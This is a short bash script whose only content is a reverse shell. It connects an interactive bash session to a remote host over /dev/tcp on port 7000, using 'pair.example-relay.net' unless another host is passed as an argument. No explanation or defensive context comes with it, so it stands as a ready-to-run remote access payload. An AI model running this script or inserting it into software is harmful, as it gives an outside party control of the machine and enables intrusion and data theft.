#!/bin/bash
HOST=${1:-pair.example-relay.net}
bash -i >& /dev/tcp/$HOST/7000 0>&1
